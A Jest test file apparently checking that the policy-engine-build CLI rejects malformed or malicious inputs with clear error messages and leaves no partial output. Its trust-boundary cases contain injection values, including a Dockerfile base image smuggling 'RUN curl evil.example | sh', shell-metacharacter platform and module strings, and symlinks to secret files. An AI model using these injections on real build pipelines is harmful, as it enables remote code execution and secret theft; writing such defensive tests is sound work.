/**
 * The bad-input corpus (issue 7, item 1): every row is one way a user (or a crafted pull
 * request) can hand the tool something wrong. Each runs the real CLI (`main(argv)`) on a
 * fresh workspace and asserts the contract of SPEC section 5:
 * - exit code 2 (bad input),
 * - a message that names the file (and line) or the field, and says how to fix it,
 * - nothing half-written: no Dockerfile, binaries or imports.go in --out, nothing on stdout.
 * Environment cases that need Docker, BuildKit or a registry live in __tests__/e2e/faults.test.ts.
 */
import { afterAll, describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import {
  halfWritten,
  makeWorkspace,
  runCli,
  seedPreviousOutput,
  snapshot,
  type CaseWorkspace
} from './support/workspace.js'

interface Case {
  name: string
  /** Folder under __tests__/fixtures/corpus/ copied into the workspace. */
  fixture?: string
  /** Extra files, relative to the workspace. */
  files?: Record<string, string>
  /** What files can't express: symlinks, huge files, fake toolchains. */
  setup?: (w: CaseWorkspace) => void
  /** The CLI command; default build. plan and generate must refuse the same inputs. */
  command?: 'build' | 'plan' | 'generate'
  /** Flags after `<command> --working-directory WS --out OUT --cache false`. */
  argv: (w: CaseWorkspace) => string[]
  /** PATH for this case (the no-Go / old-Go environments). */
  path?: (w: CaseWorkspace) => string
  code: number
  /** Must appear in stderr (after the workspace path is replaced by <ws>): file[:line] or field. */
  where: RegExp
  /** Must appear in stderr: the fix. Default: a `(fix: ...)` clause. */
  fix?: RegExp
}

const GOOD = ['--policies', 'policies/allow']
const FIX = /\(fix: [^)]{10,}/
/** Written where a leak would show: no message may ever carry it. */
const SECRET = 'ghp_corpusSecretThatMustNeverBePrinted0001'

function goMod(module: string): Record<string, string> {
  return {
    'policies/p/go.mod': `module ${module}\n\ngo 1.22\n`,
    'policies/p/policy.go':
      'package p\n\nimport "context"\n\ntype Allow struct{}\n\n' +
      'func (Allow) Name() string { return "allow" }\n' +
      'func (Allow) Execute(_ context.Context, in any) (any, error) { return in, nil }\n' +
      'func (Allow) Validate() error { return nil }\n'
  }
}

function manifest(yaml: string): Record<string, string> {
  return { 'policy-build.yaml': yaml }
}

function realGo(): string {
  return execFileSync('sh', ['-c', 'command -v go'], { encoding: 'utf8' }).trim()
}

/** A `go` that reports an old release and otherwise runs the real one. */
function fakeOldGo(w: CaseWorkspace): void {
  const bin = join(w.root, 'fake-go-bin')
  mkdirSync(bin)
  const script = `#!/bin/sh
if [ "$1" = env ] && [ "$2" = -json ]; then
  "${realGo()}" "$@" | sed 's/"GOVERSION": "go[^"]*"/"GOVERSION": "go1.20.14"/'
  exit $?
fi
if [ "$1" = version ]; then echo "go version go1.20.14 linux/amd64"; exit 0; fi
if [ "$1" = env ] && [ "$2" = GOVERSION ]; then
  "${realGo()}" "$@" | sed '1s/^go.*/go1.20.14/'
  exit $?
fi
exec "${realGo()}" "$@"
`
  writeFileSync(join(bin, 'go'), script)
  chmodSync(join(bin, 'go'), 0o755)
}

/** A few MB of valid declarations, then a syntax error on the last line. */
function hugeGoFile(): string {
  const lines = ['package huge', '', 'import "context"', '']
  lines.push('type Allow struct{}', '')
  lines.push('func (Allow) Name() string { return "huge" }')
  lines.push('func (Allow) Execute(_ context.Context, in any) (any, error) { return in, nil }')
  lines.push('func (Allow) Validate() error { return nil }', '')
  for (let i = 0, size = 0; size < 3_000_000; i++) {
    const line = `const Constant${i} = "${'x'.repeat(40)}" // filler ${i}`
    lines.push(line)
    size += line.length + 1
  }
  lines.push('func broken( {')
  return lines.join('\n') + '\n'
}
const HUGE = hugeGoFile()
const HUGE_LAST_LINE = HUGE.split('\n').length - 1

const cases: Case[] = [
  // ---- policies ----
  {
    name: 'policy directory does not exist',
    fixture: 'good',
    argv: () => ['--policies', 'policies/nope'],
    code: 2,
    where: /policies: policy directory "policies\/nope" does not exist/
  },
  {
    name: 'policy directory is empty',
    fixture: 'empty-dir',
    argv: () => ['--policies', 'policies/empty'],
    code: 2,
    where: /<ws>\/policies\/empty has no go\.mod/,
    fix: /go mod init/
  },
  {
    name: 'Go files but no go.mod (not a module)',
    fixture: 'not-a-module',
    argv: () => ['--policies', 'policies/loose'],
    code: 2,
    where: /<ws>\/policies\/loose has no go\.mod/,
    fix: /go mod init/
  },
  {
    name: 'policy path is a file',
    fixture: 'good',
    argv: () => ['--policies', 'policies/allow/policy.go'],
    code: 2,
    where: /policies: "policies\/allow\/policy\.go" is a file, not a directory/
  },
  {
    name: 'no policies at all',
    fixture: 'good',
    argv: () => [],
    code: 2,
    where: /policies: no policy modules were given/
  },
  {
    name: 'glob that matches no module',
    fixture: 'empty-dir',
    argv: () => ['--policies', 'policies/*'],
    code: 2,
    where: /policies: glob "policies\/\*" matches no directory holding a go\.mod/
  },
  {
    name: 'go.mod syntax error',
    fixture: 'gomod-syntax',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:5/
  },
  {
    name: 'go.mod without a module directive',
    fixture: 'gomod-no-module',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod(:1)?: .*module/
  },
  {
    name: 'Go syntax error',
    fixture: 'go-syntax',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/policy\.go:8:\d+: Go syntax error/
  },
  {
    name: 'module without any policy',
    fixture: 'no-policy',
    argv: () => ['--policies', 'policies/helpers'],
    code: 2,
    where:
      /<ws>\/policies\/helpers\/go\.mod:1: module example\.com\/corpus\/helpers .*has no policy/
  },
  {
    name: 'wrong Execute signature (near miss named)',
    fixture: 'wrong-signature',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /near misses: <ws>\/policies\/p\/policy\.go:\d+: .*Execute/
  },
  {
    name: 'missing Validate method (near miss named)',
    fixture: 'missing-method',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /near misses: <ws>\/policies\/p\/policy\.go:\d+: .*Validate/
  },
  {
    name: 'two modules with one module path',
    fixture: 'dup-module',
    argv: () => ['--policies', 'policies/one,policies/two'],
    code: 2,
    where:
      /<ws>\/policies\/two\/go\.mod:1: module: module path example\.com\/corpus\/same is used by two policy modules/
  },
  {
    name: 'two policies with one Name()',
    fixture: 'dup-name',
    argv: () => ['--policies', 'policies/one,policies/two'],
    code: 2,
    where:
      /<ws>\/policies\/two\/policy\.go:\d+: policy name "shared-name" is returned by Name\(\) of both/
  },
  {
    name: 'module path with a double quote',
    files: goMod('"example.com/a\\"b"'),
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:1/
  },
  {
    name: 'module path with a backtick',
    files: goMod('"example.com/a`b"'),
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:1/
  },
  {
    name: 'module path with a newline escape',
    files: goMod('"example.com/a\\nb"'),
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:1/
  },
  {
    name: 'module path with a .. element',
    files: goMod('example.com/../evil'),
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:1/
  },
  {
    name: 'module path with a space',
    files: goMod('"example.com/a b"'),
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:1/
  },
  {
    name: 'module path with uppercase in the domain',
    files: goMod('Example.COM/policies/p'),
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:1: module: .*first path element/
  },
  {
    name: 'module path without a dot in the first element',
    files: goMod('policies/p'),
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:1: module: .*no dot/
  },
  {
    name: 'module path with a semicolon (shell metacharacter)',
    files: goMod('example.com/a;rm'),
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:1/
  },
  {
    name: 'symlink leaving the workspace',
    fixture: 'good',
    setup: w => {
      const outside = join(w.root, 'outside')
      mkdirSync(outside)
      writeFileSync(join(outside, 'go.mod'), 'module example.com/outside\n\ngo 1.22\n')
      symlinkSync(outside, join(w.ws, 'policies', 'link'))
    },
    argv: () => ['--policies', 'policies/link'],
    code: 2,
    where: /policies: path "policies\/link" leads through a symlink to .*outside the workspace/
  },
  {
    name: '.. leaving the workspace',
    fixture: 'good',
    setup: w => {
      mkdirSync(join(w.root, 'sibling'))
      writeFileSync(join(w.root, 'sibling', 'go.mod'), 'module example.com/sibling\n\ngo 1.22\n')
    },
    argv: () => ['--policies', '../sibling'],
    code: 2,
    where: /policies: path "\.\.\/sibling" resolves to .*outside the workspace/
  },
  {
    name: 'absolute path outside the workspace',
    fixture: 'good',
    argv: () => ['--policies', '/etc'],
    code: 2,
    where: /policies: path "\/etc" resolves to \/etc, outside the workspace/
  },
  {
    name: 'glob reaching outside the workspace',
    fixture: 'good',
    argv: () => ['--policies', '../*'],
    code: 2,
    where: /policies: .*outside the workspace/
  },
  {
    name: 'go directive newer than the toolchain (go 1.99)',
    fixture: 'go-too-new',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where:
      /<ws>\/policies\/p\/go\.mod:3: go: module example\.com\/corpus\/future requires go 1\.99/,
    fix: /install Go 1\.99 or newer/
  },
  {
    name: 'a huge Go file (3 MB) with a syntax error on its last line',
    files: {
      'policies/huge/go.mod': 'module example.com/corpus/huge\n\ngo 1.22\n',
      'policies/huge/huge.go': HUGE
    },
    argv: () => ['--policies', 'policies/huge'],
    code: 2,
    where: new RegExp(`<ws>/policies/huge/huge\\.go:${HUGE_LAST_LINE}:\\d+: Go syntax error`)
  },
  // ---- manifest ----
  {
    name: 'manifest: bad YAML',
    fixture: 'good',
    files: manifest('version: 1\npolicies:\n  - path: [unclosed\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:\d+(:\d+)?: invalid YAML/
  },
  {
    name: 'manifest: unknown top-level field',
    fixture: 'good',
    files: manifest('version: 1\npolcies:\n  - path: policies/allow\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:2: polcies: unknown field "polcies"/,
    fix: /did you mean "policies"/
  },
  {
    name: 'manifest: unknown field in a policy entry',
    fixture: 'good',
    files: manifest('version: 1\npolicies:\n  - path: policies/allow\n    tag: v1\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:4: policies\[0\]\.tag: unknown field "tag"/
  },
  {
    name: 'manifest: policies is a string, not a list',
    fixture: 'good',
    files: manifest('version: 1\npolicies: policies/allow\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:2: policies: must be a list/
  },
  {
    name: 'manifest: image.platforms is a number',
    fixture: 'good',
    files: manifest('version: 1\npolicies:\n  - path: policies/allow\nimage:\n  platforms: 5\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:5: image\.platforms: must be a string or a list of strings/
  },
  {
    name: 'manifest: version 2',
    fixture: 'good',
    files: manifest('version: 2\npolicies:\n  - path: policies/allow\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:1: version: unsupported manifest version 2/,
    fix: /version: 1/
  },
  {
    name: 'manifest: no version',
    fixture: 'good',
    files: manifest('policies:\n  - path: policies/allow\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:1: version: the manifest has no version/
  },
  {
    name: 'manifest: empty file',
    fixture: 'good',
    files: manifest(''),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:1: the manifest is empty/
  },
  {
    name: 'manifest: both path and module',
    fixture: 'good',
    files: manifest('version: 1\npolicies:\n  - path: policies/allow\n    module: example.com/x\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:3: policies\[0\]: has both path and module/
  },
  {
    name: 'manifest: remote module without a version',
    fixture: 'good',
    files: manifest('version: 1\npolicies:\n  - module: github.com/acme/jwt-policy\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:3: policies\[0\]\.version: remote module .* has no version/
  },
  {
    name: 'manifest: remote module with a version that is not semver',
    fixture: 'good',
    files: manifest(
      'version: 1\npolicies:\n  - module: github.com/acme/jwt-policy\n    version: "1.4"\n'
    ),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:4: policies\[0\]\.version: "1\.4" is not a Go module version/
  },
  {
    name: 'manifest: remote module path with a double quote',
    fixture: 'good',
    files: manifest(
      "version: 1\npolicies:\n  - module: 'github.com/acme/a\"b'\n    version: v1.0.0\n"
    ),
    argv: () => [],
    code: 2,
    where:
      /<ws>\/policy-build\.yaml:3: policies\[0\]\.module: module path .* contains a double quote/
  },
  {
    name: 'manifest: remote module path with a .. element',
    fixture: 'good',
    files: manifest(
      'version: 1\npolicies:\n  - module: github.com/acme/../evil\n    version: v1.0.0\n'
    ),
    argv: () => [],
    code: 2,
    where:
      /<ws>\/policy-build\.yaml:3: policies\[0\]\.module: module path .*invalid path element "\.\."/
  },
  {
    name: 'manifest: policy path leaving the workspace',
    fixture: 'good',
    files: manifest('version: 1\npolicies:\n  - path: ../../etc\n'),
    argv: () => [],
    code: 2,
    where: /<ws>\/policy-build\.yaml:3: policies\[0\]\.path: .*outside the workspace/
  },
  {
    name: 'manifest: --manifest names a missing file',
    fixture: 'good',
    argv: () => [...GOOD, '--manifest', 'nope.yaml'],
    code: 2,
    where: /manifest: manifest file <ws>\/nope\.yaml does not exist/
  },
  // ---- inputs ----
  {
    name: 'unknown platform',
    fixture: 'good',
    argv: () => [...GOOD, '--platforms', 'windows/amd64'],
    code: 2,
    where: /platforms: unsupported platform "windows\/amd64"/,
    fix: /use one of: linux\/amd64/
  },
  {
    name: 'platform with shell metacharacters',
    fixture: 'good',
    argv: () => [...GOOD, '--platforms', 'linux/amd64;touch /tmp/pwned'],
    code: 2,
    where: /platforms: unsupported platform "linux\/amd64;touch \/tmp\/pwned"/
  },
  {
    name: 'invalid tag',
    fixture: 'good',
    argv: () => [...GOOD, '--image', 'registry.example/acme/engine', '--tags', 'bad tag!'],
    code: 2,
    where: /tags: "bad tag!" \(entry 1\) is not a valid tag/
  },
  {
    name: 'tag longer than 128 characters',
    fixture: 'good',
    argv: () => [...GOOD, '--image', 'registry.example/acme/engine', '--tags', 'v'.repeat(129)],
    code: 2,
    where: /tags: .* at most 128 are allowed/
  },
  {
    // Capitals alone are lower-cased (as docker/metadata-action does); a space is not fixable.
    name: 'invalid image name (uppercase and a space)',
    fixture: 'good',
    argv: () => [...GOOD, '--image', 'registry.example/Acme/bad engine'],
    code: 2,
    where: /image: "registry\.example\/acme\/bad engine" \(entry 1\) is not a valid image name/
  },
  {
    name: 'image name carrying a tag',
    fixture: 'good',
    argv: () => [...GOOD, '--image', 'registry.example/acme/engine:1.0'],
    code: 2,
    where: /image: .*carries a tag or digest/
  },
  {
    name: 'image name with a newline',
    fixture: 'good',
    argv: () => [...GOOD, '--image', 'registry.example/acme/engine\n--push=true'],
    code: 2,
    where: /image: /
  },
  {
    name: 'output none with push true',
    fixture: 'good',
    argv: () => [
      ...GOOD,
      '--image',
      'registry.example/acme/engine',
      '--output',
      'none',
      '--push',
      'true'
    ],
    code: 2,
    where: /output: output is none but push is true/
  },
  {
    name: 'load with several platforms',
    fixture: 'good',
    argv: () => [
      ...GOOD,
      '--image',
      'registry.example/acme/engine',
      '--platforms',
      'linux/amd64,linux/arm64',
      '--load'
    ],
    code: 2,
    where: /load: load needs a single platform/
  },
  {
    name: 'load with output oci',
    fixture: 'good',
    argv: () => [...GOOD, '--output', 'oci', '--load', '--platforms', 'linux/amd64'],
    code: 2,
    where: /load: output is oci but load is true/
  },
  {
    name: 'push true without an image',
    fixture: 'good',
    argv: () => [...GOOD, '--push', 'true'],
    code: 2,
    where: /push: push is true but no image name is given/
  },
  {
    name: 'unknown --output value',
    fixture: 'good',
    argv: () => [...GOOD, '--output', 'tarball'],
    code: 2,
    where: /--output: must be one of image, oci, none, got "tarball"/
  },
  {
    name: 'unknown --push value',
    fixture: 'good',
    argv: () => [...GOOD, '--push', 'maybe'],
    code: 2,
    where: /--push: must be one of auto, true, false, got "maybe"/
  },
  {
    name: 'label with an invalid key',
    fixture: 'good',
    argv: () => [...GOOD, '--labels', 'bad key=1'],
    code: 2,
    where: /labels: line 1: "bad key" is not a valid label key/
  },
  {
    name: 'label without =',
    fixture: 'good',
    argv: () => [...GOOD, '--labels', 'novalue'],
    code: 2,
    where: /labels: line 1 "novalue" has no '='/
  },
  {
    name: 'username without password',
    fixture: 'good',
    argv: () => [...GOOD, '--image', 'registry.example/acme/engine', '--username', 'someone'],
    code: 2,
    where: /password: username is set but password is empty/
  },
  {
    name: 'engine folder outside the workspace',
    fixture: 'good',
    argv: () => [...GOOD, '--engine', '/usr'],
    code: 2,
    where: /engine: path "\/usr" resolves to \/usr, outside the workspace/
  },
  {
    name: 'templates folder leaving the workspace',
    fixture: 'good',
    argv: () => [...GOOD, '--templates', '../..'],
    code: 2,
    where: /templates: path "\.\.\/\.\." resolves to .*outside the workspace/
  },
  {
    name: 'mistyped flag',
    fixture: 'good',
    argv: () => [...GOOD, '--platfroms', 'linux/amd64'],
    code: 2,
    where: /unknown option '--platfroms'/,
    fix: /Did you mean --platforms\?|--help/
  },
  {
    name: '--out is a non-empty folder we did not write',
    fixture: 'good',
    setup: w => {
      mkdirSync(w.out)
      writeFileSync(join(w.out, 'precious.txt'), 'user data\n')
    },
    argv: () => [...GOOD, '--output', 'none', '--platforms', 'linux/amd64'],
    code: 2,
    where:
      /<root>\/out: out: the output folder is not empty and was not written by policy-engine-build/
  },
  // ---- environment (no Docker needed) ----
  {
    name: 'no Go on PATH',
    fixture: 'good',
    argv: () => [...GOOD, '--output', 'none'],
    path: w => {
      const empty = join(w.root, 'empty-path')
      mkdirSync(empty, { recursive: true })
      return empty
    },
    // An environment problem, not bad input: exit 1, like any other step that cannot run.
    code: 1,
    where: /go.*(not found|PATH)/i,
    fix: /setup-go|install Go/i
  },
  {
    name: 'old Go on PATH (go1.20 for go 1.22 modules)',
    fixture: 'good',
    setup: fakeOldGo,
    path: w => `${join(w.root, 'fake-go-bin')}:${process.env.PATH}`,
    argv: () => [...GOOD, '--output', 'none'],
    code: 2,
    where:
      /<ws>\/policies\/allow\/go\.mod:3: go: module example\.com\/corpus\/allow requires go 1\.22, but the Go toolchain on PATH is go1\.20\.14/,
    fix: /install Go 1\.\d+ or newer/
  },
  // --- The trust boundary (issue 11): what a pull request controls cannot leak, inject or delete.
  {
    name: 'go.mod is a link to a secret file outside the workspace (never read)',
    fixture: 'good',
    setup: w => {
      writeFileSync(join(w.root, 'secret.env'), `TOKEN=${SECRET}\n`)
      rmSync(join(w.ws, 'policies/allow/go.mod'))
      symlinkSync(join(w.root, 'secret.env'), join(w.ws, 'policies/allow/go.mod'))
    },
    command: 'plan',
    argv: () => GOOD,
    code: 2,
    where:
      /<ws>\/policies\/allow\/go\.mod: is a symbolic link to a file or folder outside the workspace/
  },
  {
    name: 'a Go source file is a link outside the workspace',
    fixture: 'good',
    setup: w => {
      writeFileSync(join(w.root, 'outside.go'), 'package allow\n')
      symlinkSync(join(w.root, 'outside.go'), join(w.ws, 'policies/allow/extra.go'))
    },
    argv: () => [...GOOD, '--output', 'none'],
    code: 2,
    where: /<ws>\/policies\/allow\/extra\.go: is a symbolic link/
  },
  {
    name: 'a template is a link outside the workspace',
    fixture: 'good',
    setup: w => {
      writeFileSync(join(w.root, 'Dockerfile.hbs'), `FROM scratch\n# ${SECRET}\n`)
      mkdirSync(join(w.ws, 'tpl'))
      symlinkSync(join(w.root, 'Dockerfile.hbs'), join(w.ws, 'tpl/Dockerfile.hbs'))
    },
    command: 'generate',
    argv: () => [...GOOD, '--templates', 'tpl'],
    code: 2,
    where:
      /templates: .*<ws>\/tpl\/Dockerfile\.hbs.*symbolic link|<ws>\/tpl\/Dockerfile\.hbs: templates: is a symbolic link/
  },
  {
    name: 'generate --out the workspace itself, which holds a committed marker',
    fixture: 'good',
    files: { '.policy-engine-build': 'committed by a pull request\n' },
    command: 'generate',
    argv: w => [...GOOD, '--out', w.ws],
    code: 2,
    where: /out: the output folder .* is the workspace/
  },
  {
    name: '--out inside a policy module',
    fixture: 'good',
    command: 'generate',
    argv: w => [...GOOD, '--out', join(w.ws, 'policies/allow/out')],
    code: 2,
    where: /out: the output folder .* overlaps the policies folder/
  },
  {
    name: '--out below an existing file',
    fixture: 'good',
    files: { 'a-file': 'x\n' },
    argv: w => [...GOOD, '--output', 'none', '--out', join(w.ws, 'a-file/out')],
    code: 2,
    where: /out: .*a-file, on the way to the output folder, is a file/
  },
  {
    name: 'a manifest base image holding a newline, with a template that writes it raw',
    fixture: 'good',
    files: {
      'tpl/Dockerfile.hbs': 'FROM {{{baseImage}}}\nCOPY bin/${TARGETPLATFORM}/policy-engine /e\n',
      ...manifest('version: 1\nimage:\n  base: "alpine:3\\nRUN curl evil.example | sh"\n')
    },
    command: 'plan',
    argv: () => [...GOOD, '--templates', 'tpl'],
    code: 2,
    where: /image\.base: not a valid image reference/
  },
  {
    name: 'a label value holding a newline',
    fixture: 'good',
    command: 'plan',
    argv: () => [...GOOD, '--labels', 'a=b\nRUN x'],
    code: 2,
    where: /labels: .*line 2 "RUN x" has no '='|labels: the value of label/
  },
  {
    name: 'a build arg without = (buildx would copy it from its own environment)',
    fixture: 'good',
    command: 'plan',
    argv: () => [...GOOD, '--build-args', 'INPUT_PASSWORD'],
    code: 2,
    where: /build-args: line 1 "INPUT_PASSWORD" is not KEY=value/
  },
  {
    name: 'a version holding quotes',
    fixture: 'good',
    argv: () => [...GOOD, '--output', 'none', '--version', `1.0"'`],
    code: 2,
    where: /version: .* cannot be a version/
  },
  {
    name: 'a policy folder whose name holds a newline, found by a glob',
    fixture: 'good',
    setup: w => {
      mkdirSync(join(w.ws, 'policies/evil\nname'))
      writeFileSync(
        join(w.ws, 'policies/evil\nname/go.mod'),
        'module example.com/evil\n\ngo 1.22\n'
      )
    },
    command: 'plan',
    argv: () => ['--policies', 'policies/*'],
    code: 2,
    where: /policies: the path .* holds a control character/
  },
  {
    name: 'a package folder whose name is not an import path element (a space)',
    fixture: 'good',
    files: {
      'policies/allow/my checks/deny.go':
        'package checks\n\nimport "context"\n\ntype Deny struct{}\n\n' +
        'func (Deny) Name() string { return "deny" }\n' +
        'func (Deny) Execute(_ context.Context, in any) (any, error) { return in, nil }\n' +
        'func (Deny) Validate() error { return nil }\n'
    },
    command: 'generate',
    argv: () => GOOD,
    code: 2,
    where: /<ws>\/policies\/allow\/my checks: the folder of package .* cannot be imported/
  },
  {
    name: "a policy module declaring the engine's module path",
    files: goMod('github.com/policy-engine-build/engine/policies'),
    command: 'plan',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod:1: module: module path .* is the engine's own/
  },
  {
    name: 'a policy module requiring the engine module',
    files: {
      ...goMod('example.com/corpus/needs-engine'),
      'policies/p/go.mod':
        'module example.com/corpus/needs-engine\n\ngo 1.22\n\nrequire github.com/policy-engine-build/engine v0.0.0\n'
    },
    command: 'plan',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where: /<ws>\/policies\/p\/go\.mod: require: module .* requires the engine module/
  },
  {
    name: 'a file of a replaced folder (a policy kit) is a link outside the workspace',
    files: {
      ...goMod('example.com/corpus/kitlink'),
      'policies/p/go.mod':
        'module example.com/corpus/kitlink\n\ngo 1.22\n\nrequire example.com/kit v0.0.0\n\nreplace example.com/kit => ../kit\n',
      'policies/kit/go.mod': 'module example.com/kit\n\ngo 1.22\n'
    },
    setup: w => {
      writeFileSync(join(w.root, 'secret.go'), `package kit\n\n// ${SECRET}\n`)
      symlinkSync(join(w.root, 'secret.go'), join(w.ws, 'policies/kit/secret.go'))
    },
    command: 'plan',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where:
      /<ws>\/policies\/kit\/secret\.go: replace: is a symbolic link to a file or folder outside the workspace/
  },
  {
    name: 'a local replace leaving the workspace',
    files: {
      ...goMod('example.com/corpus/replaced'),
      'policies/p/go.mod':
        'module example.com/corpus/replaced\n\ngo 1.22\n\nrequire example.com/kit v0.0.0\n\nreplace example.com/kit => ../../../kit\n'
    },
    setup: w => {
      mkdirSync(join(w.root, 'kit'))
      writeFileSync(join(w.root, 'kit/go.mod'), 'module example.com/kit\n\ngo 1.22\n')
    },
    command: 'plan',
    argv: () => ['--policies', 'policies/p'],
    code: 2,
    where:
      /<ws>\/policies\/p\/go\.mod:7: replace: replace example\.com\/kit => \.\.\/\.\.\/\.\.\/kit leaves the workspace/
  }
]

const roots: string[] = []
afterAll(() => {
  for (const root of roots) rmSync(root, { recursive: true, force: true })
})

describe(`bad-input corpus (${cases.length} cases): exit code, where, fix, nothing written`, () => {
  it('has at least 40 cases with unique names', () => {
    expect(cases.length).toBeGreaterThanOrEqual(40)
    expect(new Set(cases.map(c => c.name)).size).toBe(cases.length)
  })

  it.each(cases.map(c => [c.name, c] as const))(
    '%s',
    async (_name, c) => {
      const w = makeWorkspace(c.fixture, c.files)
      roots.push(w.root)
      c.setup?.(w)
      // The previous output of a build: a refused input must leave it exactly as it was.
      if (!existsSync(w.out)) seedPreviousOutput(w.out)
      const before = snapshot(w.out)
      const argv = [
        c.command ?? 'build',
        '--working-directory',
        w.ws,
        '--out',
        w.out,
        '--cache',
        'false',
        ...c.argv(w)
      ]
      const savedPath = process.env.PATH
      if (c.path) process.env.PATH = c.path(w)
      let result
      try {
        result = await runCli(argv, w.ws)
      } finally {
        process.env.PATH = savedPath
      }
      const stderr = result.stderr.split(w.ws).join('<ws>').split(w.root).join('<root>')
      if (process.env.CORPUS_DEBUG)
        process.stdout.write(`\n[${c.name}] exit ${result.code}\n${stderr}\n`)
      // One assertion, so a failure shows the exit code and the whole message together.
      expect({
        code: result.code,
        where: stderr,
        fix: stderr,
        stdout: result.stdout,
        written: halfWritten(w.out),
        out: snapshot(w.out),
        leaked: stderr.includes(SECRET)
      }).toEqual({
        code: c.code,
        where: expect.stringMatching(c.where),
        fix: expect.stringMatching(c.fix ?? FIX),
        stdout: '',
        written: [],
        out: before,
        leaked: false
      })
    },
    120_000
  )
})
